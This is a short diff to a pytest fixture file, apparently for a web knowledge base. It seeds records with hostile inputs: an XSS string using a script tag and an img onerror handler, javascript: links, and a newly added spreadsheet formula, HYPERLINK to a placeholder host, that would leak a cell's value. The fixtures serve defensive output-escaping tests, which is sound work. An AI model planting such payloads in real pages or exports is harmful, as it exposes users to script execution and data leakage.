@@ -35,6 +35,7 @@ CHROMIUM_ARGS = [
 ]
 ARTIFACTS = Path(__file__).resolve().parents[2] / "artifacts" / "web"
 HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>'
+FORMULA = '=HYPERLINK("http://x?y="&A1,"click")'
 
 
 def pytest_configure(config: pytest.Config) -> None:
@@ -81,6 +82,7 @@ def hostile_kb(
     kb.edit(record, "organisation", f"Org {HOSTILE}")
     link = {"as_written": "javascript:alert(1)", "url": "javascript:alert(1)", "problem": None}
     kb.edit(record, "links", [link])
+    kb.edit("gsef2018-fr/4.2.2", "title", FORMULA)  # what a spreadsheet would run
     yield kb
     kb.close()
 
